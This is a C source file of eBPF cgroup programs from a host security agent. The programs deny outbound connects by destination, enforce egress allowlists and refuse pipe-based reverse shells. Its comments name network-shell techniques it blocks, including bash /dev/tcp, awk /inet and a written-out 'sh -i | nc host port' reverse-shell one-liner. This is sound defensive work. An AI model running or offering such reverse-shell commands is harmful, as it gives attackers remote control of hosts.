/* enforce_connect.c - deny connect() and UDP sendmsg() by destination, in the kernel.
 *
 * cgroup/connect4|6 and cgroup/sendmsg4|6 programs, attached by the agent to
 * job cgroups (or the root for host-wide rules) only. The deny set is one LPM
 * trie keyed by (scope cgroup id, port, IPv6 address); IPv4 destinations are
 * stored and looked up as v4-mapped IPv6, so an AF_INET6 socket connecting to
 * ::ffff:a.b.c.d meets the same rule as an AF_INET one. Port 0 in a rule means
 * any port. Returning 0 makes the syscall fail with EPERM.
 *
 * Process identity: programs that never connect inside a job (shells, awk) are
 * denied whatever the destination, matched by comm or by executable (device and
 * inode of the task's mm->exe_file, read at BTF offsets), so bash's /dev/tcp and
 * awk's /inet fail at the syscall.
 *
 * Egress by name: in an allowlist scope that lists names, an address a trusted resolver gave the scope for
 * an allowed name (learnt by flow.c before the answer reached the job) is allowed too, until it expires.
 *
 * Pipes: a process whose stdin/stdout is the other end of a watched shell's pipe is refused any
 * connect (see pipe_check). */
#include "gpuguard.h"

/* data = scope cgroup id (8 bytes, little-endian) | port (2, network order,
 * 0 = any) | IPv6 address (16) | 2 bytes zero. prefixlen counts data bits:
 * 64 + 16 + address prefix bits (96 + n for an IPv4 /n). */
struct deny_key {
    u32 prefixlen;
    u8 data[28];
};

BPF_LPM_TRIE(deny_dest, struct deny_key, u32, 16384);   /* -> rule index */
/* Egress allowlists: in a scope listed in allow_scopes, only destinations in
 * allow_dest (same key layout) may be reached; anything else gets EPERM. */
BPF_HASH(allow_scopes, u64, u32, 1024);                  /* scope cgroup id -> rule index */
BPF_LPM_TRIE(allow_dest, struct deny_key, u32, 16384);

struct identity_comm_key {
    u64 scope;
    char comm[TASK_COMM_LEN];
};

struct identity_exe_key {
    u64 scope;
    u32 dev;                       /* kernel encoding: major << 20 | minor */
    u32 _pad;
    u64 ino;
};

BPF_HASH(no_connect_comms, struct identity_comm_key, u32, 4096);   /* -> rule index */
BPF_HASH(no_connect_exes, struct identity_exe_key, u32, 4096);

/* Denials are folded like connects (connect.c): one report per process, action and destination per window, the
 * next carrying the count, so a connect loop against a denied address cannot flood the priority ring. */
#define DENY_FOLD_NS 1000000000ULL

struct deny_fold_key {
    u32 tgid;
    u32 action;
    u16 port;
    u16 _pad;
    u8 addr[16];
};

struct deny_fold_val {
    u64 last_ns;
    u32 folded;
    u32 _pad;
};

BPF_TABLE("lru_hash", struct deny_fold_key, struct deny_fold_val, deny_folds, 16384);

static __always_inline int report(struct bpf_sock_addr *ctx, u8 *addr, u16 port, u32 rule, u32 action, u32 peer)
{
    int verdict = action == ACT_SEEN_REVERSE_SHELL;
    struct deny_fold_key fk = {.tgid = bpf_get_current_pid_tgid() >> 32, .action = action, .port = port};
    __builtin_memcpy(fk.addr, addr, 16);
    u64 now = bpf_ktime_get_boot_ns();
    struct deny_fold_val *fv = deny_folds.lookup(&fk);
    if (fv && now - fv->last_ns < DENY_FOLD_NS) {
        __sync_fetch_and_add(&fv->folded, 1);
        return verdict;
    }
    u32 folded = fv ? fv->folded : 0;
    struct deny_fold_val fresh = {.last_ns = now};
    deny_folds.update(&fk, &fresh);
    struct enforce_event e = {};
    e.repeats = folded;
    fill_header(&e.hdr, EV_ENFORCE);
    e.hdr.result = action == ACT_SEEN_REVERSE_SHELL ? 0 : -1;   /* EPERM */
    e.action = action;
    e.rule = rule;
    e.peer_tgid = peer;
    e.family = ctx->user_family;
    e.dport = bpf_ntohs(port);
    __builtin_memcpy(e.daddr, addr, 16);
    emit(&e, sizeof(e), EV_ENFORCE);
    return verdict;
}

static __always_inline int refuse(struct bpf_sock_addr *ctx, u8 *addr, u16 port, u32 rule)
{
    return report(ctx, addr, port, rule, ACT_DENY_CONNECT, 0);
}

/* Reverse shells through pipes: if the caller's stdin/stdout is the other end of a pipe on a watched
 * shell's stdio (`sh -i 2>&1 | nc host port > fifo`), the connect is refused (reported only in
 * monitor mode); otherwise the caller's pipe ends are remembered, so a shell exec'd later on their
 * other ends is killed at exec (enforce_exec.c). */
static __always_inline int pipe_check(struct bpf_sock_addr *ctx, u8 *addr, u16 port)
{
    struct pipe_key keys[3] = {};
    stdio_pipes(keys);
    u32 self = bpf_get_current_pid_tgid() >> 32;
    struct pipe_holder *h = shell_at_other_end(keys, self);
    if (h) {
        u32 action = task_exempt() ? ACT_SEEN_REVERSE_SHELL : ACT_DENY_PIPE_CONNECT;
        return report(ctx, addr, port, h->rule, action, h->tgid);
    }
    remember_network_ends(keys, self);
    if (!on_node(addr))
        record_connected_out(self); /* a shell it later starts on a pty it holds is killed at exec (not for
                                     * loopback: jupyter's server talks to its kernels there) */
    return 1;
}

/* Look up (scope, port, addr), then (scope, any port, addr). One function per
 * trie: BCC rewrites map calls by name and cannot take a map as a parameter. */
static __always_inline void key_scope_port(struct deny_key *k, u64 scope, u16 port)
{
    __builtin_memcpy(&k->data[0], &scope, 8);
    __builtin_memcpy(&k->data[8], &port, 2);
}

static __always_inline u32 *deny_lookup(struct deny_key *k, u64 scope, u16 port)
{
    key_scope_port(k, scope, port);
    u32 *rule = deny_dest.lookup(k);
    if (rule)
        return rule;
    key_scope_port(k, scope, 0);
    return deny_dest.lookup(k);
}

static __always_inline u32 *allow_lookup(struct deny_key *k, u64 scope, u16 port)
{
    key_scope_port(k, scope, port);
    u32 *rule = allow_dest.lookup(k);
    if (rule)
        return rule;
    key_scope_port(k, scope, 0);
    return allow_dest.lookup(k);
}

/* An address a trusted resolver gave the caller's name scope for an allowed name, not yet expired. flow.c learns
 * it at the shallowest name scope above the receiving socket (a job's own cgroup; its steps are below it), so
 * that is the scope looked up, whichever level's allowlist asks. */
static __always_inline int name_allowed(u8 *addr)
{
    for (int level = 0; level < MAX_CGROUP_LEVELS; level++) {
        u64 scope = bpf_get_current_ancestor_cgroup_id(level);
        if (!scope)
            return 0;
        if (!name_scopes.lookup(&scope))
            continue;
        struct name_addr_key k = {.scope = scope};
        __builtin_memcpy(k.addr, addr, 16);
        u64 *expiry = name_addrs.lookup(&k);
        return expiry && *expiry >= bpf_ktime_get_boot_ns();
    }
    return 0;
}

static __always_inline int deny_check(struct bpf_sock_addr *ctx, u8 *addr, u16 port)
{
    struct deny_key k = {};
    __builtin_memcpy(&k.data[10], addr, 16);
    k.prefixlen = 64 + 16 + 128;
    struct identity_comm_key ck = {};
    struct identity_exe_key ek = {};
    bpf_get_current_comm(&ck.comm, sizeof(ck.comm));
    current_exe(&ek.dev, &ek.ino);
    for (int level = 0; level < MAX_CGROUP_LEVELS; level++) {
        u64 scope = bpf_get_current_ancestor_cgroup_id(level);
        if (!scope)
            break;
        ck.scope = scope;
        ek.scope = scope;
        u32 *who = no_connect_comms.lookup(&ck);
        if (!who)
            who = no_connect_exes.lookup(&ek);
        if (who)
            return task_exempt() ? 1 : refuse(ctx, addr, port, *who);
        u32 *rule = deny_lookup(&k, scope, port);
        if (rule)
            return task_exempt() ? 1 : refuse(ctx, addr, port, *rule);
        u32 *allow_rule = allow_scopes.lookup(&scope);
        if (allow_rule && !allow_lookup(&k, scope, port) && !name_allowed(addr))
            return task_exempt() ? 1 : refuse(ctx, addr, port, *allow_rule);
    }
    return pipe_check(ctx, addr, port);
}

static __always_inline int deny_v4(struct bpf_sock_addr *ctx)
{
    u8 addr[16] = {};
    u32 ip = ctx->user_ip4;
    addr[10] = 0xff;
    addr[11] = 0xff;
    __builtin_memcpy(&addr[12], &ip, 4);
    return deny_check(ctx, addr, (u16)ctx->user_port);
}

static __always_inline int deny_v6(struct bpf_sock_addr *ctx)
{
    u8 addr[16];
    u32 w0 = ctx->user_ip6[0], w1 = ctx->user_ip6[1], w2 = ctx->user_ip6[2], w3 = ctx->user_ip6[3];
    __builtin_memcpy(&addr[0], &w0, 4);
    __builtin_memcpy(&addr[4], &w1, 4);
    __builtin_memcpy(&addr[8], &w2, 4);
    __builtin_memcpy(&addr[12], &w3, 4);
    return deny_check(ctx, addr, (u16)ctx->user_port);
}

int deny_connect4(struct bpf_sock_addr *ctx) { return deny_v4(ctx); }
int deny_connect6(struct bpf_sock_addr *ctx) { return deny_v6(ctx); }
int deny_sendmsg4(struct bpf_sock_addr *ctx) { return deny_v4(ctx); }
int deny_sendmsg6(struct bpf_sock_addr *ctx) { return deny_v6(ctx); }
